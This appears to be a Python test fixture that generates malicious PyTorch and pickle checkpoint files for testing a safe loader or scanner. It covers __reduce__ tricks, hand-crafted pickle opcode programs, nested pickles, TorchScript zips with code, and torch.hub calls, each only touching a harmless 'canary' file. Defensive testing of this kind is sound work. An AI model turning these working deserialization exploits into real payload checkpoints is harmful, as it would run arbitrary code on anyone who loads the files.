"""Checkpoints that run something when they are unpickled carelessly. Each would make the file `canary`."""

from __future__ import annotations

import builtins
import io
import os
import pickle
import subprocess
import sys
import tarfile
import zipfile
from collections import OrderedDict
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch


class Calling:
    """Unpickles to a call."""

    def __init__(self, function: Callable[..., Any], *arguments: object) -> None:
        self.function, self.arguments = function, arguments

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[object, ...]]:
        return self.function, self.arguments


class Stateful(Calling):
    """Calls while its state is set."""

    def __reduce__(self) -> Any:
        return OrderedDict, (), {"canary": Calling(self.function, *self.arguments)}


class Filling(Calling):
    """Calls while its items are appended."""

    def __reduce__(self) -> Any:
        return OrderedDict, (), None, None, iter([("weight", Calling(self.function, *self.arguments))])


def payloads(canary: Path) -> dict[str, object]:
    """Name → what to pickle."""
    touch = f"touch {canary}"
    write = f"import pathlib; pathlib.Path({str(canary)!r}).touch()"
    call = Calling(os.system, touch)
    return {
        "os.system": call,
        "subprocess": Calling(subprocess.check_output, ["touch", str(canary)]),
        "eval": Calling(builtins.eval, f"__import__('os').system({touch!r})"),
        "exec": Calling(builtins.exec, write),
        "open": Calling(open, str(canary), "w"),
        "__import__": Calling(builtins.__import__, "this"),
        "pathlib": Calling(Path.touch, canary),
        "nested pickle": Calling(pickle.loads, pickle.dumps(call)),
        "torch.load": Calling(torch.load, str(canary)),
        "torch.hub": Calling(torch.hub.load, "owner/repo", "model"),
        "in a state dict": {"state_dict": {"a": torch.zeros(1), "b": call}},
        "under module.": {"state_dict": {"module.a": torch.zeros(1), "module.b": call}},
        "in Lightning's hyper parameters": {
            "pytorch-lightning_version": "2.5.0",
            "state_dict": {"model.a": torch.zeros(1)},
            "hyper_parameters": call,
        },
        "in Lightning's callbacks": {"callbacks": {"a": call}, "state_dict": {"model.a": torch.zeros(1)}},
        "in a key": {call: 1},
        "in an attribute": Stateful(os.system, touch),
        "in an item": Filling(os.system, touch),
    }


def programs(canary: Path) -> dict[str, bytes]:
    """Name → pickle written by hand, opcode by opcode."""
    touch = f"touch {canary}".encode()
    short = bytes([len(touch)]) + touch
    return {
        "GLOBAL REDUCE": b"cos\nsystem\n(V" + touch + b"\ntR.",
        "INST": b"(S'" + touch + b"'\nios\nsystem\n.",
        "OBJ": b"(cos\nsystem\nS'" + touch + b"'\no.",
        "STACK_GLOBAL": b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c" + short + b"\x85R.",
        "NEWOBJ": b"\x80\x02cos\nsystem\nX" + len(touch).to_bytes(4, "little") + touch + b"\x85\x81.",
        "BUILD": b"\x80\x02ccollections\nOrderedDict\n)R}(X\x01\x00\x00\x00acos\nsystem\nX"
        + len(touch).to_bytes(4, "little")
        + touch
        + b"\x85Rub.",
        "memory": b"\x80\x02cbuiltins\nbytearray\n\x8a\x06\x00\x00\x00\x00\x00\x10\x85R.",
        "rebuilt tensor of nothing": b"\x80\x02ctorch._utils\n_rebuild_tensor_v2\n(NNNNNNtR.",
        "persistent id": b"\x80\x02Vgopher://evil\nQ.",
        "extension": b"\x80\x02\x82\x01)R.",
    }


def corpus(canary: Path) -> dict[str, bytes]:
    """Name → file. Every payload in every container, programs raw and zipped, and zips with code."""
    found: dict[str, bytes] = {}
    for name, payload in payloads(canary).items():
        for container, pack in _CONTAINERS.items():
            found[f"{name} in {container}"] = pack(payload)
    for name, program in programs(canary).items():
        found[f"{name}, raw"] = program
        found[f"{name}, zipped"] = _zipped({"archive/data.pkl": program, "archive/version": b"3\n"})
        found[f"{name}, legacy tar"] = _tarred({"pickle": program, "storages": program, "tensors": program})
    empty = b"\x80\x02}."
    code = f"import pathlib; pathlib.Path({str(canary)!r}).touch()".encode()
    found |= {
        "TorchScript": _zipped(
            {
                "archive/code/__torch__.py": code,
                "archive/constants.pkl": b"\x80\x02).",
                "archive/data.pkl": empty,
                "archive/version": b"3\n",
            }
        ),
        "zip with a module": _zipped({"__main__.py": code, "archive/data.pkl": empty, "archive/version": b"3\n"}),
        "python source": code,
        "python bytecode": b"\xa7\r\r\n" + bytes(12) + code,
        "shared object": b"\x7fELF" + bytes(60),
    }
    return found


def _torch(*, modern: bool) -> Callable[[object], bytes]:
    def pack(payload: object) -> bytes:
        out = io.BytesIO()
        torch.save(payload, out, _use_new_zipfile_serialization=modern)
        return out.getvalue()

    return pack


def _plain(protocol: int) -> Callable[[object], bytes]:
    return lambda payload: pickle.dumps(payload, protocol=protocol)


def _legacy_tar(payload: object) -> bytes:
    content = pickle.dumps(payload, protocol=2)
    number = pickle.dumps(0, protocol=2)
    return _tarred({"pickle": content, "storages": number, "tensors": number, "sys_info": pickle.dumps(sys.byteorder)})


_CONTAINERS: dict[str, Callable[[object], bytes]] = {
    "a torch zip": _torch(modern=True),
    "a torch legacy file": _torch(modern=False),
    "a torch legacy tar": _legacy_tar,
    "a pickle of protocol 0": _plain(0),
    "a pickle of protocol 2": _plain(2),
    "a pickle of protocol 4": _plain(4),
}


def _zipped(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return out.getvalue()


def _tarred(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, content in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return out.getvalue()
